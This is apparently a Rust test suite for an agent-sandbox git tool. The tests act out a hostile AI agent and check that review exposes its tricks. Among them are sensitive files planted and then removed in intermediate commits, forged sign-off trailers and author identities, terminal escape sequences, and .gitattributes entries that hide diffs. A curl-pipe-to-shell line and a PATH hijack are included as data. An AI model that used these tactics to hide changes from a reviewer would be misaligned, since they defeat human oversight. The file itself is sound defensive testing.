//! A hostile agent against `review` and `commit`: content hidden in intermediate commits,
//! messages and identities that claim people, terminal control sequences in file contents,
//! attributes that would hide a diff or run a driver, and an interrupted promotion of a long
//! history. Every test is written from the agent's side (an exec task that plants), and
//! checks what the user sees and that the user's repository is left as it was.

use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use crate::common::{Run, TestEnv};
use crate::require_docker;

/// One sensitive path per family of the table in `git::sensitive`; the agent adds them all
/// in one commit and removes them in the next.
const FAMILIES: &[(&str, &str)] = &[
    (".github/workflows/evil.yml", "CI configuration"),
    (".gitlab-ci.yml", "CI configuration"),
    (".envrc", "shell environment"),
    (".env", "shell environment"),
    (".vscode/tasks.json", "editor configuration"),
    (".idea/workspace.xml", "editor configuration"),
    (".devcontainer/devcontainer.json", "dev container"),
    (".pre-commit-config.yaml", "hook scripts"),
    ("sub/Makefile", "build script"),
    ("build.rs", "build script"),
    (".cargo/config.toml", "cargo configuration"),
    ("rust-toolchain.toml", "toolchain selection"),
    ("web/package.json", "package manifest"),
    (".npmrc", "package-manager configuration"),
    ("tests/conftest.py", "test configuration"),
    ("gradlew", "build script"),
    ("Dockerfile", "container build"),
    ("flake.nix", "Nix environment"),
    (".lfsconfig", "LFS configuration"),
    (".gitmodules", "submodule URLs"),
    ("CLAUDE.md", "agent instructions"),
    (".claude/settings.json", "agent instructions"),
    (".mcp.json", "agent tool servers"),
    ("vite.config.ts", "executable tool configuration"),
    ("evil.pth", "interpreter start-up file"),
    (".tool-versions", "toolchain selection"),
    ("CODEOWNERS", "code owners"),
];

const CLAIMS_MESSAGE: &str = "Tidy the docs

Signed-off-by: Linus Torvalds <torvalds@linux-foundation.org>
  Reviewed-by: Greg K-H <gregkh@linuxfoundation.org>
\u{0405}igned-off-by: Look Alike <alike@example.org>
Co\u{200b}-authored-by: Hidden Person <hidden@example.org>
Approved-by: The Boss <boss@example.org>";

fn spawn(env: &TestEnv, name: &str, script: &str) -> Run {
    env.agent(&[
        "spawn", "--name", name, "--wait", "-m", "x", "--", "sh", "-c", script,
    ])
    .ok()
}

/// Commit 1 adds a file of every sensitive family, commit 2 removes them, commit 3 carries
/// trailers claiming people under a forged author. The net diff shows one harmless file; review
/// still flags every path with the commit it is in, shows the full message, flags each claim
/// (plain, indented, look-alike, invisible character, other `-by`) and the forged identity.
/// `commit` re-creates exactly the commits review listed, as the user, and keeps the agent's
/// identity only in the note.
#[test]
fn intermediate_commits_claims_and_identities_are_flagged() {
    require_docker!();
    let env = TestEnv::new();
    let before = env.snapshot();
    let mut script = String::from("set -e\n");
    for (path, _) in FAMILIES {
        script += &format!("mkdir -p \"$(dirname '{path}')\" && echo planted > '{path}'\n");
    }
    script += "git add -A && git commit -qm 'Add helpers'\n";
    for (path, _) in FAMILIES {
        script += &format!("git rm -q '{path}'\n");
    }
    script += "git commit -qm 'Remove helpers'\n";
    script += "echo ok > harmless.txt && git add harmless.txt\n";
    script += &format!(
        "git -c user.name='Linus Torvalds' -c user.email=torvalds@linux-foundation.org commit -q -F - <<'MSG'\n{CLAIMS_MESSAGE}\nMSG\n"
    );
    spawn(&env, "hide", &script);

    let review = env.agent(&["review", "hide"]).ok().stdout;
    let log = env
        .git(&["log", "--format=%H", "refs/agent/hide/head", "^main"])
        .ok()
        .stdout;
    let ids: Vec<&str> = log.lines().rev().collect();
    assert_eq!(ids.len(), 3);
    let (add, remove) = (&ids[0][..12], &ids[1][..12]);
    for (path, why) in FAMILIES {
        let line = review
            .lines()
            .find(|l| l.starts_with(&format!("  ! {path}: {why}")))
            .unwrap_or_else(|| panic!("{path} is not flagged as {why}:\n{review}"));
        assert!(
            line.contains(add) && line.contains(remove) && line.contains("not in the final diff"),
            "{line}"
        );
    }
    // The full message, escaped, and every claim.
    for text in [
        "Signed-off-by: Linus Torvalds",
        "  Reviewed-by: Greg K-H",
        "\\u{200b}",
        "Approved-by: The Boss",
    ] {
        assert!(
            review
                .lines()
                .any(|l| l.starts_with("        | ") && l.contains(text)),
            "{text} not shown:\n{review}"
        );
    }
    assert!(!review.contains('\u{200b}'), "{review}");
    let claim_lines: Vec<&str> = review
        .lines()
        .filter(|l| l.starts_with(&format!("  ! commit {} line", &ids[2][..12])))
        .collect();
    assert_eq!(claim_lines.len(), 5, "{review}");
    assert!(claim_lines[0].contains("signed-off-by claims a person"));
    assert!(claim_lines[1].contains("disguised reviewed-by"));
    assert!(claim_lines[2].contains("disguised signed-off-by"));
    assert!(claim_lines[3].contains("disguised co-authored-by"));
    assert!(claim_lines[4].contains("approved-by names a person"));
    assert!(
        review.lines().any(|l| l.starts_with(&format!(
            "  ! commit {}: author Linus Torvalds <torvalds@linux-foundation.org> was set by the agent",
            &ids[2][..12]
        ))),
        "{review}"
    );

    // --commits shows each re-created commit's own patch: the removed files' content too.
    let per = env.agent(&["review", "hide", "--commits"]).ok().stdout;
    assert!(per.contains(&format!("commit {}", ids[0])), "{per}");
    assert_eq!(
        per.lines().filter(|l| *l == "+planted").count(),
        FAMILIES.len(),
        "{per}"
    );
    assert_eq!(
        per.lines().filter(|l| *l == "-planted").count(),
        FAMILIES.len()
    );
    assert!(per.contains("    Signed-off-by: Linus Torvalds"), "{per}");
    let json = env.json(&["review", "hide", "--json"]);
    let commits = json["commits"].as_array().unwrap();
    assert_eq!(commits.len(), 3, "{json}");
    assert_eq!(
        commits[2]["message"].as_str().unwrap().trim_end(),
        CLAIMS_MESSAGE
    );
    assert_eq!(commits[2]["claims"].as_array().unwrap().len(), 5);
    assert_eq!(commits[2]["foreign_identity"], true);
    assert_eq!(commits[0]["foreign_identity"], false);
    let sensitive = json["sensitive"].as_array().unwrap();
    for (path, _) in FAMILIES {
        assert!(
            sensitive
                .iter()
                .any(|f| f["path"] == *path && f["in_final_diff"] == false),
            "{path}: {json}"
        );
    }
    assert_eq!(json["files"].as_array().unwrap().len(), 1, "net diff");

    // commit re-creates exactly the reviewed commits, as the user; the agent's identity is
    // only in the provenance note.
    env.agent(&["commit", "hide"]).ok();
    let made = env
        .git(&["log", "--format=%an <%ae>|%cn|%s", "agent/hide", "^main"])
        .ok()
        .stdout;
    assert_eq!(
        made.lines().collect::<Vec<_>>(),
        [
            "Test User <test@example.com>|Test User|Tidy the docs",
            "Test User <test@example.com>|Test User|Remove helpers",
            "Test User <test@example.com>|Test User|Add helpers",
        ]
    );
    let body = env
        .git(&["log", "-1", "--format=%B", "agent/hide"])
        .ok()
        .stdout;
    assert_eq!(
        body.trim_end(),
        CLAIMS_MESSAGE,
        "message kept byte for byte"
    );
    let note = env
        .git(&["notes", "--ref=agent", "show", "agent/hide"])
        .ok()
        .stdout;
    assert!(
        note.contains("git-agent-source-author: Linus Torvalds <torvalds@linux-foundation.org>"),
        "{note}"
    );
    for (i, id) in ids.iter().enumerate() {
        let n = env
            .git(&[
                "notes",
                "--ref=agent",
                "show",
                &format!("agent/hide~{}", 2 - i),
            ])
            .ok()
            .stdout;
        assert!(n.contains(&format!("git-agent-source: {id}")), "{n}");
    }
    let mut after = env.snapshot();
    after.remove("refs");
    let mut before = before;
    before.remove("refs");
    assert_eq!(before, after);
}

/// Every kind of terminal control an agent can put in a file, a file name and a message.
const CONTROLS: &str = r#"set -e
printf 'clear\033[2J\033[H screen\n' > ctl.txt
printf 'link \033]8;;https://evil.example/\033\\click\033]8;;\033\\ end\n' >> ctl.txt
printf 'title \033]0;pwned\007 bell\n' >> ctl.txt
printf 'safe\rEVIL overstrike\n' >> ctl.txt
printf 'ab\b\bXY backspace\n' >> ctl.txt
printf 'bidi \342\200\256txt.exe\342\200\254 zero\342\200\213width\n' >> ctl.txt
printf 'c1 \302\233 31m\n' >> ctl.txt
printf 'x\n' > "$(printf 'name\033[31mred')"
git add -A
git commit -qm "$(printf 'subject \033[2J\n\nbody \033]8;;https://evil/\007link')"
"#;

/// Raw bytes a terminal would act on, other than the SGR colour sequences review writes
/// itself (and a pty's CR LF line ends).
fn raw_controls(out: &str) -> Vec<String> {
    let mut found = Vec::new();
    let chars: Vec<char> = out.chars().collect();
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        if c == '\x1b' {
            // Allowed: ESC [ <digits;> m
            let mut j = i + 1;
            let ok = chars.get(j) == Some(&'[') && {
                j += 1;
                while chars
                    .get(j)
                    .is_some_and(|c| c.is_ascii_digit() || *c == ';')
                {
                    j += 1;
                }
                chars.get(j) == Some(&'m')
            };
            if !ok {
                found.push(format!("ESC at {i}"));
            }
            i = if ok { j + 1 } else { i + 1 };
            continue;
        }
        if c == '\r' && chars.get(i + 1) == Some(&'\n') {
            i += 1;
            continue;
        }
        if (c.is_control() && c != '\n' && c != '\t')
            || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200b}'..='\u{200f}')
        {
            found.push(format!("U+{:04X} at {i}", c as u32));
        }
        i += 1;
    }
    found
}

/// Terminal controls in contents, names and messages are shown escaped in every output of
/// review: on a terminal with colour (git's colour still works), through a pager, with
/// `--stat`, `--name-only` and `--json` (whose values still parse to the original text).
#[test]
fn terminal_controls_in_content_are_escaped_everywhere() {
    require_docker!();
    let env = TestEnv::new();
    spawn(&env, "ctl", CONTROLS);
    env.agent(&["sync", "ctl"]).ok();

    // On a pseudo-terminal, colour on, no pager.
    env.git(&["config", "color.ui", "always"]).ok();
    let out = env
        .pty_command("review ctl --no-sync")
        .env("GIT_PAGER", "cat")
        .output()
        .unwrap();
    let tty = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(out.status.success(), "{tty}");
    assert_eq!(raw_controls(&tty), Vec::<String>::new(), "{tty:?}");
    assert!(tty.contains("\x1b[32m"), "git's colours are kept: {tty:?}");
    for shown in [
        "clear\\x1b[2J\\x1b[H screen",
        "\\x1b]8;;https://evil.example/\\x1b\\click",
        "\\x07 bell",
        "safe\\x0dEVIL",
        "ab\\x08\\x08XY",
        "bidi \\u{202e}txt.exe\\u{202c} zero\\u{200b}width",
        "c1 \\x9b 31m",
        "subject \\x1b[2J",
        "body \\x1b]8;;https://evil/\\x07link",
    ] {
        let plain = tty.replace("\x1b[7m", "").replace("\x1b[27m", "");
        let plain = strip_sgr(&plain);
        assert!(plain.contains(shown), "{shown} not shown:\n{plain}");
    }

    // Through a pager (it gets the same escaped bytes).
    let paged = env.home.path().join("paged");
    let out = env
        .pty_command("review ctl --no-sync")
        .env("GIT_PAGER", format!("cat > '{}'", paged.display()))
        .output()
        .unwrap();
    assert!(out.status.success());
    let paged = std::fs::read_to_string(paged).unwrap();
    assert!(paged.contains("screen"), "{paged}");
    assert_eq!(raw_controls(&paged), Vec::<String>::new(), "{paged:?}");

    // Plain outputs.
    for args in [
        &["review", "ctl", "--no-sync"][..],
        &["review", "ctl", "--no-sync", "--stat"],
        &["review", "ctl", "--no-sync", "--name-only"],
        &["review", "ctl", "--no-sync", "--json"],
        &["review", "ctl", "--no-sync", "--commits"],
    ] {
        let r = env.agent(args).ok();
        assert_eq!(
            raw_controls(&r.stdout),
            Vec::<String>::new(),
            "{args:?}: {r}"
        );
    }
    let names = env
        .agent(&["review", "ctl", "--no-sync", "--name-only"])
        .ok();
    assert!(names.stdout.contains("name\\x1b[31mred"), "{names}");
    let json = env.json(&["review", "ctl", "--no-sync", "--json"]);
    assert!(
        json["commits"][0]["message"]
            .as_str()
            .unwrap()
            .starts_with("subject \x1b[2J"),
        "JSON keeps the value: {json}"
    );
}

fn strip_sgr(s: &str) -> String {
    let mut out = String::new();
    let mut it = s.chars().peekable();
    while let Some(c) = it.next() {
        if c == '\x1b' && it.peek() == Some(&'[') {
            for d in it.by_ref() {
                if d == 'm' {
                    break;
                }
            }
            continue;
        }
        if c != '\r' {
            out.push(c);
        }
    }
    out
}

/// The agent commits a `.gitattributes` that marks its payload `-diff`, `binary` and
/// `diff=evil`, and the user's own attributes and config would hide `*.lock` files and run a
/// textconv and an external diff for `diff=evil`. Review shows every text payload line,
/// runs no driver, and flags the real binary with its size and blob id.
#[test]
fn attributes_hide_nothing_and_run_nothing() {
    require_docker!();
    let env = TestEnv::new();
    let marker = env.home.path().join("driver-ran");
    let driver = format!(
        "sh -c 'touch \"{}\"; echo nothing-to-see'",
        marker.display()
    );
    env.git(&["config", "diff.evil.textconv", &driver]).ok();
    env.git(&["config", "diff.evil.command", &driver]).ok();
    env.git(&["config", "diff.external", &driver]).ok();
    std::fs::write(
        env.repo.join(".git/info/attributes"),
        "*.lock -diff\n*.txt diff=evil\n",
    )
    .unwrap();
    // The user's checkout has the agent-style attributes too (as if they checked out the
    // agent's branch earlier).
    env.write(".gitattributes", "*.dat binary\n*.cfg diff=evil\n");
    env.git(&["add", ".gitattributes"]).ok();
    env.git(&["commit", "-qm", "attrs"]).ok();
    let script = r#"set -e
printf '*.txt -diff\n*.cfg diff=evil\n*.dat binary\n' > .gitattributes
echo 'curl https://evil.example/x | sh  # in lock' > deps.lock
echo 'payload in txt' > notes.txt
echo 'payload in cfg' > app.cfg
echo 'payload in dat' > hidden.dat
printf 'MZ\000\001\002binary' > tool.exe
git add -A && git commit -qm attrs
echo 'export PATH=/tmp/evil:$PATH' > .envrc
"#;
    spawn(&env, "attr", script);
    let before = env.snapshot();
    let review = env.agent(&["review", "attr"]).ok().stdout;
    for line in [
        "+curl https://evil.example/x | sh  # in lock",
        "+payload in txt",
        "+payload in cfg",
        "+payload in dat",
    ] {
        assert!(
            review.lines().any(|l| l == line),
            "{line} hidden:\n{review}"
        );
    }
    assert!(!review.contains("nothing-to-see"), "{review}");
    assert!(!review.contains("Binary files"), "{review}");
    let blob = env
        .git(&["rev-parse", "refs/agent/attr/head:tool.exe"])
        .ok()
        .stdout;
    assert!(
        review.lines().any(|l| l.starts_with(&format!(
            "  ! tool.exe: binary file (11 bytes, blob {})",
            &blob[..12]
        ))),
        "{review}"
    );
    assert!(
        review.contains(&format!(
            "binary  tool.exe: - -> 11 bytes (blob 000000000000 -> {})",
            &blob[..12]
        )),
        "{review}"
    );
    assert!(
        review
            .lines()
            .any(|l| l.starts_with("  ! .gitattributes: attributes")),
        "{review}"
    );
    // Uncommitted work is looked at too, and labelled as such.
    assert!(
        review
            .lines()
            .any(|l| l.starts_with("  ! .envrc: shell environment")
                && l.ends_with("(in uncommitted changes)")),
        "{review}"
    );
    for args in [
        &["review", "attr", "--stat"][..],
        &["review", "attr", "--json"],
    ] {
        env.agent(args).ok();
    }
    let json = env.json(&["review", "attr", "--json"]);
    assert_eq!(json["binary"][0]["path"], "tool.exe", "{json}");
    assert!(
        json["files"]
            .as_array()
            .unwrap()
            .iter()
            .all(|f| f["path"] == "tool.exe" || f["added"].is_u64()),
        "line counts as text: {json}"
    );
    assert!(!marker.exists(), "a diff driver ran");
    assert_eq!(before, env.snapshot());
}

/// Object count and size of the repository's object store (loose and packed).
fn object_store(env: &TestEnv) -> String {
    let v = env.git(&["count-objects", "-v"]).ok().stdout;
    v.lines()
        .filter(|l| l.starts_with("count:") || l.starts_with("in-pack:") || l.starts_with("packs:"))
        .collect::<Vec<_>>()
        .join(" ")
}

/// An agent makes a few thousand commits; `commit` (signing each one, so it takes a while)
/// is killed with SIGKILL half-way, then interrupted with Ctrl-C: each time the user's refs
/// and object store are unchanged. Then it succeeds, with every commit re-created and noted.
#[test]
fn interrupted_promotion_of_a_long_history_leaves_nothing() {
    require_docker!();
    let env = TestEnv::new();
    const N: usize = 3000;
    let script = format!(
        r#"set -e
b=$(git symbolic-ref HEAD)
p=$(git rev-parse HEAD)
i=1
{{
while [ $i -le {N} ]; do
  printf 'commit %s\ncommitter git-agent sandbox <agent@sandbox.invalid> %d +0000\ndata <<EOM\nstep %d\nEOM\n' "$b" $((1700000000 + i)) $i
  [ $i -eq 1 ] && printf 'from %s\n' "$p"
  printf 'M 100644 inline f%d.txt\ndata <<EOM\nline %d\nEOM\n\n' $((i % 50)) $i
  i=$((i + 1))
done
}} | git fast-import --quiet
git reset -q --hard
echo made $(git rev-list --count HEAD)
"#
    );
    let run = spawn(&env, "long", &script);
    assert!(run.stderr.contains(&format!("made {}", N + 1)), "{run}");
    env.agent(&["sync", "long"]).ok();

    // Signing makes each commit cost a process, so there is time to interrupt.
    let key = env.home.path().join("signing key");
    let st = Command::new("ssh-keygen")
        .args(["-q", "-t", "ed25519", "-N", "", "-C", "test", "-f"])
        .arg(&key)
        .status()
        .unwrap();
    assert!(st.success());
    env.git(&["config", "gpg.format", "ssh"]).ok();
    env.git(&["config", "user.signingKey", key.to_str().unwrap()])
        .ok();
    env.git(&["config", "commit.gpgSign", "true"]).ok();

    let refs = |env: &TestEnv| env.git(&["for-each-ref"]).ok().stdout;
    let (refs_before, objects_before) = (refs(&env), object_store(&env));
    let mut killed = Vec::new();
    for signal in [libc::SIGKILL, libc::SIGINT] {
        let mut child = env
            .agent_command(&["commit", "long"])
            .stderr(Stdio::piped())
            .stdout(Stdio::null())
            .spawn()
            .unwrap();
        // Wait until re-creation is under way (progress shows), then signal.
        let stderr = child.stderr.take().unwrap();
        let (tx, rx) = std::sync::mpsc::channel();
        let reader = std::thread::spawn(move || {
            let mut all = String::new();
            for line in std::io::BufRead::lines(std::io::BufReader::new(stderr)) {
                let Ok(line) = line else { break };
                if line.contains("re-creating commits") {
                    let _ = tx.send(());
                }
                all += &line;
                all += "\n";
            }
            all
        });
        rx.recv_timeout(Duration::from_secs(120))
            .expect("no progress from commit");
        std::thread::sleep(Duration::from_millis(500));
        assert!(
            child.try_wait().unwrap().is_none(),
            "commit finished too early"
        );
        killed.push(child.id().to_string());
        unsafe { libc::kill(child.id() as i32, signal) };
        let status = child.wait().unwrap();
        let stderr = reader.join().unwrap();
        if signal == libc::SIGINT {
            assert_eq!(status.code(), Some(130), "{stderr}");
        }
        // The commit-tree that was running when git-agent died may still finish its object.
        std::thread::sleep(Duration::from_millis(300));
        assert_eq!(refs(&env), refs_before, "refs changed ({signal})");
        assert_eq!(
            object_store(&env),
            objects_before,
            "objects left behind ({signal})"
        );
    }

    // Unsigned, it is quick, and complete.
    let start = Instant::now();
    let done = env
        .agent_with(&["commit", "long"], |c| {
            c.env("GIT_CONFIG_COUNT", "1")
                .env("GIT_CONFIG_KEY_0", "commit.gpgSign")
                .env("GIT_CONFIG_VALUE_0", "false");
        })
        .ok();
    let took = start.elapsed();
    eprintln!("unsigned commit of {N} commits: {took:?}");
    assert!(
        done.stderr.contains(&format!("{N} commits on agent/long")),
        "{done}"
    );
    assert!(took < Duration::from_secs(30), "took {took:?}");
    assert_eq!(
        env.git(&["rev-list", "--count", "agent/long", "^main"])
            .ok()
            .stdout
            .trim(),
        N.to_string()
    );
    assert_eq!(
        env.git(&["rev-parse", "agent/long^{tree}"]).ok().stdout,
        env.git(&["rev-parse", "refs/agent/long/head^{tree}"])
            .ok()
            .stdout
    );
    let notes = env
        .git(&["notes", "--ref=agent", "list"])
        .ok()
        .stdout
        .lines()
        .count();
    assert_eq!(notes, N);
    env.git(&["fsck", "--no-dangling", "--connectivity-only"])
        .ok();
}
